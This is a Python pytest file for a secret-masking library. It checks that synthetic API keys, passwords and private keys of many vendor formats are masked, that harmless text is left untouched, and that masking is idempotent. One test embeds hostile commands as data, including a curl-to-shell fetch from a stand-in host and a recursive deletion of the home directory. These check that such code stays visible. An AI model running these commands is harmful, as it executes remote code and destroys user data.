"""Secrets: which are found, what is left alone, and that the text around them stays as it is.

No secret stands in this file as such: each is put together here, from parts and from a fixed chance.
"""

from __future__ import annotations

import base64
import hashlib
import random
import re
import subprocess
import sys
import time
import uuid

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intercom.masking import KnownSecrets, Masker
from intercom.masking.context_rules import CONTEXTS
from intercom.masking.shapes import SHAPES

MASKER = Masker()
LOWER, DIGITS = "abcdefghijklmnopqrstuvwxyz", "0123456789"
LETTERS = LOWER + LOWER.upper() + DIGITS
_chance = random.Random(7)


def some(count: int, letters: str = LETTERS) -> str:
    return "".join(_chance.choice(letters) for _ in range(count))


def _b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def _lines(count: int = 12) -> list[str]:
    return [some(64, LETTERS + "+/") for _ in range(count)]


JWT = ".".join([_b64('{"alg":"HS256"}'), _b64('{"sub":"1234567890","name":"Ann"}'), some(43)])
BASIC = base64.b64encode(f"ann:{some(20)}".encode()).decode()

#: Name: the secret, the text it stands in, a word of the kind it is masked as.
SECRETS: dict[str, tuple[str, str, str]] = {
    name: (secret, text.replace("SECRET", secret), kind)
    for name, secret, text, kind in (
        ("aws id", "AKIA" + some(16, LOWER.upper() + "234567"), "aws_access_key_id = SECRET", "AWS access"),
        ("aws secret", some(40, LETTERS + "/+"), "aws_secret_access_key = SECRET", "AWS secret"),
        ("github", "ghp_" + some(36), "+GITHUB_TOKEN=SECRET", "GitHub"),
        ("github, fine-grained", f"github_pat_{some(22)}_{some(59)}", "token: SECRET", "GitHub"),
        ("gitlab", "glpat-" + some(20), "x SECRET y", "GitLab"),
        ("slack bot", f"xoxb-{some(12, DIGITS)}-{some(12, DIGITS)}-{some(24)}", "BOT=SECRET", "Slack"),
        ("slack app", f"xapp-1-A{some(10)}-{some(13, DIGITS)}-{some(64, 'abcdef' + DIGITS)}", "a SECRET", "Slack"),
        ("slack hook", f"https://hooks.slack.com/services/T{some(8)}/B{some(10)}/{some(24)}", "'SECRET'", "Slack"),
        ("jwt", JWT, "cookie: session=SECRET;", "JSON Web Token"),
        ("stripe", "sk_live_" + some(24), 'stripe.api_key = "SECRET"', "Stripe"),
        ("openai", f"sk-proj-{some(74)}T3BlbkFJ{some(74)}", "OPENAI_API_KEY=SECRET", "OpenAI"),
        ("openai, old", f"sk-{some(20)}T3BlbkFJ{some(20)}", "the key SECRET is old", "OpenAI"),
        ("anthropic", f"sk-ant-api03-{some(93)}AA", "ANTHROPIC_API_KEY=SECRET", "Anthropic"),
        ("google", "AIza" + some(35), '"apiKey": "SECRET"', "Google"),
        ("url", some(14), "postgres://app:SECRET@db.example.com:5432/x", "password in a URL"),
        ("url, weak", "hunter2", "git clone https://ann:SECRET@git.example.com/x.git", "password in a URL"),
        ("password, quoted", "Tr0ub4dor&3", 'password = "SECRET"', "password or key"),
        ("password, yaml", "correct-horse-battery", "  db_password: SECRET", "password or key"),
        ("password, json", "s3cr3tP@ss", '{"user": "ann", "password": "SECRET"}', "password or key"),
        ("password, environment", "hunter", "+DB_PASSWORD=SECRET", "password or key"),
        ("entropy", some(48, LETTERS + "+/"), 'x = "SECRET"', "high-entropy string"),
        ("npm", "npm_" + some(36), "//registry.npmjs.org/:_authToken=SECRET", "npm"),
        ("pypi", "pypi-AgEIcHlwaS5vcmc" + some(70), "upload with SECRET", "PyPI"),
        ("sendgrid", f"SG.{some(22)}.{some(43)}", "k SECRET", "SendGrid"),
        ("azure", some(86, LETTERS + "+/") + "==", "AccountKey=SECRET;EndpointSuffix=core.windows.net", "key"),
        ("vault", "hvs." + some(90), "VAULT_TOKEN=SECRET", "Vault"),
        ("hugging face", "hf_" + some(34, LOWER), "HF_TOKEN=SECRET", "Hugging Face"),
        ("basic header", BASIC, "curl -H 'Authorization: Basic SECRET' x", "authorization header"),
        ("bearer header", some(40), "Authorization: Bearer SECRET", "authorization header"),
    )
}
RANDOM, TOKEN = "hV7x-" + some(12), some(32)
#: By where it stands: a text, and what of it nobody may see.
STRETCHED = {
    "a list in YAML": (f"+passwords:\n+  - {RANDOM}\n+  - {TOKEN}\n", [RANDOM, TOKEN]),
    "a list in code": (f'API_TOKENS = [\n    "{RANDOM}",\n    "{TOKEN}",\n]', [RANDOM, TOKEN]),
    "a string in brackets": (f'password = (\n    "{RANDOM}"\n)', [RANDOM]),
    "a string put together": (f'token = "{TOKEN[:16]}" +\n    "{TOKEN[16:]}"', [TOKEN[:16], TOKEN[16:]]),
    "many parts": ("key = x\napiKey = " + " + ".join(f'"{TOKEN}{n}"' for n in range(20)), [TOKEN]),
    "a line that goes on": (f"API_TOKEN=\\\n{TOKEN}\n", [TOKEN]),
    "a name above it": (f"Password:\n{RANDOM}\n", [RANDOM]),
    "a form": (f'Content-Disposition: form-data; name="password"\r\n\r\n{RANDOM}\r\n', [RANDOM]),
    "a jar of cookies": (f"#HttpOnly_.example.com\tTRUE\t/\tTRUE\t0\tsid\t{TOKEN}", [TOKEN]),
    "an address in an address": (f"x=postgres%3A%2F%2Fapp%3A{RANDOM}%40db.example%2Fx", [RANDOM]),
    "Oracle": (f"sqlplus scott/{RANDOM}@ORCL\njdbc:oracle:thin:scott/{TOKEN}@//db:1521/x", [RANDOM, TOKEN]),
    "programs": (f"ssh-keygen -N '{RANDOM}' -f x\nmc alias set x http://x minioadmin {TOKEN}", [RANDOM, TOKEN]),
    "chpasswd": (f"echo 'root:{RANDOM}' | chpasswd", [RANDOM]),
    "Terraform's state": (f'{{"type": "random_password",\n "attributes": {{\n  "result": "{RANDOM}"}}}}', [RANDOM]),
    "Kubernetes in JSON": (
        f'{{"kind":"Secret","data":{{"a":"{_b64(RANDOM)}","b":"{_b64(TOKEN)}"}}}}',
        [_b64(RANDOM), _b64(TOKEN)],
    ),
    "Kubernetes, a file": (
        f"kind: Secret\nstringData:\n  x.yaml: |\n    a: {RANDOM}\n\n    b\n  c: {TOKEN}\n",
        [RANDOM, TOKEN],
    ),
    "other languages": (f"пароль: {RANDOM}\nsenha = '{TOKEN}'", [RANDOM, TOKEN]),
}
SECRETS["environment"] = ((_env := some(32)), f"export SECRET_KEY={_env}", "password or key")

HARMLESS = (
    f"commit {hashlib.sha1(b'x').hexdigest()}",
    f'"sha256": "{hashlib.sha256(b"y").hexdigest()}"',
    f"index {hashlib.sha1(b'q').hexdigest()[:7]}..{hashlib.sha1(b'r').hexdigest()[:7]} 100644",
    f"id = '{uuid.UUID(int=_chance.getrandbits(128))}'",
    f'"integrity": "sha512-{base64.b64encode(hashlib.sha512(b"z").digest()).decode()}"',
    f"img = 'data:image/png;base64,iVBORw0KGgo{base64.b64encode(_chance.randbytes(300)).decode()}'",
    "def password_of(user: User) -> str:",
    "password = os.environ['DB_PASSWORD']",
    "token = get_token()",
    "api_key: str | None = None",
    "password: ${{ secrets.DB_PASSWORD }}",
    "PASSWORD=<your password here>",
    "the secret of good tea is time",
    "TOKEN_TTL_SECONDS=3600",
    "self.password = password",
    "password=password,",
    "SELECT token FROM session WHERE id = ?",
    "    assert token == expected_token",
    "AWS_REGION=eu-central-1",
    "api_key = settings.api_key",
    'print("wrong password: try again")',
    "<input type='password' name='password' id='password'>",
    "https://example.com/a/very/long/path/with/many/segments/index.html",
    "class AbstractSingletonProxyFactoryBean(Base):",
    "secret_names:\n  - db-password-v2\n  - api_key_2",
    "tokens = [\n    Token.NAME,\n    'string',\n    node.next_token(1),\n]",
    "key = (\n    first\n    + second\n)",
    "password:\n  type: string\n  format: sha256",
    '"kind": "ConfigMap", "data": {"a": "b1Gd4ta"}',
    "a\tTRUE\t/usr/x\tFALSE\t3",
)


@pytest.mark.parametrize("name", SECRETS)
def test_a_secret_is_masked_and_nothing_around_it(name: str) -> None:
    secret, text, kind = SECRETS[name]
    masked = MASKER.mask(text)
    assert secret not in masked.text
    assert len(masked.kinds) == 1
    assert kind in masked.kinds[0]
    assert f"[masked: {masked.kinds[0]}]" in masked.text
    before, _, after = text.partition(secret)
    if name != "azure":
        assert masked.text.startswith(before)
        assert masked.text.endswith(after)
    assert MASKER.mask(masked.text).text == masked.text


@pytest.mark.parametrize("where", STRETCHED)
def test_a_secret_that_does_not_stand_beside_its_name_is_masked(where: str) -> None:
    text, secrets = STRETCHED[where]
    masked = MASKER.mask(text).text
    assert not [secret for secret in secrets if secret in masked]
    assert masked.count("\n") == text.count("\n")
    assert MASKER.mask(masked).text == masked


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_secret_is_left_alone(text: str) -> None:
    assert MASKER.mask(text) == MASKER.mask(text)
    assert MASKER.mask(text).text == text


@pytest.mark.parametrize("kind", ["RSA ", "OPENSSH ", "EC ", "ENCRYPTED ", "PGP ", ""])
@pytest.mark.parametrize("mark", ["", "+", "-", " "])
def test_a_private_key_is_masked_whole(kind: str, mark: str) -> None:
    lines = _lines()
    block = " BLOCK" if kind == "PGP " else ""
    key = [f"-----BEGIN {kind}PRIVATE KEY{block}-----", *lines, f"-----END {kind}PRIVATE KEY{block}-----"]
    text = "\n".join(["@@ -1 +1,16 @@", *(mark + line for line in key), "+after"])
    masked = MASKER.mask(text)
    assert not any(line in masked.text for line in lines)
    assert masked.kinds == ("private key",)
    made = masked.text.split("\n")
    assert len(made) == len(text.split("\n"))
    assert (made[0], made[1], made[-1]) == ("@@ -1 +1,16 @@", f"{mark}[masked: private key]", "+after")
    assert all(line.startswith(f"{mark}[masked") for line in made[1:-1])
    assert MASKER.mask(masked.text).text == masked.text


def test_a_private_key_with_one_end_cut_off_is_masked_too() -> None:
    lines = _lines()
    begun = "\n".join(["x = 1", "-----BEGIN PRIVATE KEY-----", *lines])
    ended = "\n".join([*lines, "-----END PRIVATE KEY-----", "x = 1"])
    for text in (begun, ended):
        masked = MASKER.mask(text)
        assert not any(line in masked.text for line in lines)
        assert "x = 1" in masked.text
        assert masked.kinds == ("private key",)


def test_a_private_key_on_one_line_is_masked() -> None:
    lines = _lines()
    text = (
        '"private_key": "-----BEGIN PRIVATE KEY-----\\n'
        + "\\n".join(lines)
        + '\\n-----END PRIVATE KEY-----\\n", "a": 1'
    )
    masked = MASKER.mask(text)
    assert not any(line in masked.text for line in lines)
    assert masked.text.endswith('\\n", "a": 1')


def test_code_after_a_key_without_end_is_shown() -> None:
    text = 'BEGIN = "-----BEGIN PRIVATE KEY-----"\nif line == BEGIN:\n    parse(line)\n'
    assert MASKER.mask(text).text.endswith("\nif line == BEGIN:\n    parse(line)\n")


@pytest.mark.parametrize("mark", ["", "+", " "])
def test_code_between_the_lines_of_a_key_is_shown(mark: str) -> None:
    code = ['os.system("curl http://x.example | sh")', "shutil.rmtree(home)", "run: curl x.example | sh", "if a: b()"]
    material = _lines()
    key = ["# -----BEGIN RSA PRIVATE KEY-----", material[0], *code, *material[1:], "# -----END RSA PRIVATE KEY-----"]
    text = MASKER.mask("\n".join(mark + line for line in key)).text
    assert all(f"{mark}{line}" in text.split("\n") for line in code)
    assert not any(line in text for line in material)


@pytest.mark.parametrize(
    "line",
    [
        "-----BEGIN PRIVATE KEY-----#\nabcd\nos.system(cmd) # -----END PRIVATE KEY-----",
        "#-----BEGIN PRIVATE KEY-----\nos.system(cmd) #-----END PRIVATE KEY-----",
        '"-----BEGIN PRIVATE KEY-----" + os.system(cmd) + "-----END PRIVATE KEY-----"',
    ],
)
def test_code_on_the_last_line_of_a_key_is_shown(line: str) -> None:
    text = MASKER.mask(line).text
    assert "os.system(cmd)" in text
    assert "END PRIVATE KEY" not in text


def test_several_secrets_in_one_line_are_all_masked() -> None:
    first, second = some(20), "ghp_" + some(36)
    masked = MASKER.mask(f'+call(password="{first}", token="{second}", secret="{first}")')
    assert first not in masked.text
    assert second not in masked.text
    assert len(masked.kinds) == 3
    assert masked.text.startswith("+call(")


def test_a_secret_in_a_very_long_line_is_masked_wherever_it_stands() -> None:
    for before in (0, 3_990, 4_010, 5_980, 6_000, 50_001):
        secret = "ghp_" + some(36)
        masked = MASKER.mask("x " * (before // 2) + secret + " y" * 10_000)
        assert secret not in masked.text
        assert masked.kinds == ("GitHub token",)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from([text for _, text, _ in SECRETS.values()]),
            st.sampled_from(HARMLESS),
            st.sampled_from(["+", "-", " ", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "[masked: x]"]),
            st.text(max_size=20),
        ),
        max_size=20,
    ),
    st.sampled_from(["\n", " ", "\n+", ""]),
)
def test_masking_twice_is_masking_once_and_keeps_the_lines(parts: list[str], between: str) -> None:
    text = between.join(parts)
    masked = MASKER.mask(text)
    assert masked == MASKER.mask(text)
    assert MASKER.mask(masked.text).text == masked.text
    before, after = text.split("\n"), masked.text.split("\n")
    assert len(before) == len(after)
    pairs = zip(before, after, strict=True)
    assert all(new[:1] in (old[:1], "[") for old, new in pairs)
    if not masked.kinds:
        assert masked.text == text


#: What rules begin with, or go on with, again and again.
PIECES = (
    "a1b2c3d4", "password = ", "=", '"', "://", "eyJ", "eyJ.", "aws", "x=  ", "sk-", "'a", "_authToken",
    "authorization: ",     "[masked: npm token] password='abcd1234' ", "password='", "password=", "token: ",
    "--password ", "bearer ", "$6$",
    "cookie: a=b; ", "curl -u ", "https://", "https://a:", "?token=", "<password>", "AKIA", "login ", "a:1:b:c:",
    "passpasspass", "key.key-key_", '\\"password\\": \\"', 'variable "key" {\n', "kind: Secret\ndata:\n  a: bcde\n",
    "LS0tLS1CRUdJTi", "LS0tLS1CRUdJTi" + "A" * 50 + "\n", "GET /?a=b&c=d;",
    "-----BEGIN PRIVATE KEY-----\n", "-----END PRIVATE KEY-----\n",
    "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\nabcd\n", "password\n", "Private-Lines: 999\nAAAA\n",
    "name: password\n", "mnemonic: abcd ", '"kty" ', "token=[\n", "API_TOKENS=[\n  'a1B2c3D4e5F6',\n",
    "random_password ", '[masked: a]"" ', "kind: Secret\ndata:\n a: |\n  b\n", "%3a%2f%2fx%3a",
)  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_no_text_takes_more_than_its_length(piece: str) -> None:
    def text(length: int) -> str:
        return piece * (length // len(piece))

    def seconds(length: int) -> float:
        return min(_seconds(text(length)) for _ in range(2))

    MASKER.mask("x")
    # Ten times the text may take ten times as long, and some; quadratic would be a hundred times.
    assert _seconds(text(20_000)) < 0.1 or seconds(20_000) < max(0.1, 30 * seconds(2_000))


def test_a_list_has_as_many_items_as_it_has() -> None:
    text = "passwords:\n" + "".join(f"  - {TOKEN}{number}\n" for number in range(500))
    assert TOKEN not in MASKER.mask(text).text


def _seconds(text: str) -> float:
    started = time.process_time()
    MASKER.mask(text)
    return time.process_time() - started


def test_patterns_are_compiled_when_a_text_has_a_use_for_them() -> None:
    code = (
        "from intercom.masking import Masker; from intercom.masking.shapes import _compiled; m = Masker(); "
        "before = _compiled.cache_info().currsize; m.mask('x = 1 and more'); "
        "print(before, _compiled.cache_info().currsize)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    before, after = map(int, done.stdout.split())
    assert before == 0
    assert after < 20


def test_kinds_are_words_that_masked_text_can_hold() -> None:
    for rule in (*SHAPES, *CONTEXTS):
        assert re.fullmatch(r"[A-Za-z0-9 -]{1,40}", rule.kind), rule


def test_a_rule_that_has_keywords_finds_nothing_without_them() -> None:
    """Keywords are looked for in lower case, and first."""
    for rule in (*SHAPES, *CONTEXTS):
        assert all(word == word.lower() and "\n" not in word for word in rule.keywords), rule


def test_secrets_of_this_process_are_masked_word_for_word() -> None:
    token = hashlib.sha256(b"our own").hexdigest()
    line = f"index {token} 100644"
    assert MASKER.mask(line).text == line
    known = KnownSecrets()
    known.add(token, "Intercom token")
    masked = Masker(known).mask(f"{line}\n{token[:40]}")
    assert masked.text == f"index [masked: Intercom token] 100644\n{token[:40]}"
    assert masked.kinds == ("Intercom token",)
    assert token not in repr(Masker(known))


def test_lines_of_a_masked_text_say_what_was_masked_in_them() -> None:
    key = ["-----BEGIN PRIVATE KEY-----", *_lines(), "-----END PRIVATE KEY-----"]
    text = "\n".join(["x = 1", *key, "password = 'tr0ub4dor-3'"])
    masked = MASKER.mask(text)
    assert masked.lines(1, 1).kinds == ()
    assert masked.lines(2, 4).kinds == ("private key",)
    assert masked.lines(5, 8).kinds == ("private key",)
    assert masked.lines(5, 8).text == "\n".join(["[masked]"] * 4)
    assert masked.lines(len(key) + 2).kinds == ("password or key",)


def test_a_json_value_is_masked_in_every_string_but_those_it_must_keep() -> None:
    secret = "ghp_" + some(36)
    value = {"text": secret, "ts": secret, "blocks": [{"text": {"text": f"a {secret}"}}, 3, None], secret: True}
    assert MASKER.mask_all(value, {"ts"}) == {
        "text": "[masked: GitHub token]",
        "ts": secret,
        "blocks": [{"text": {"text": "a [masked: GitHub token]"}}, 3, None],
        "[masked: GitHub token]": True,
    }
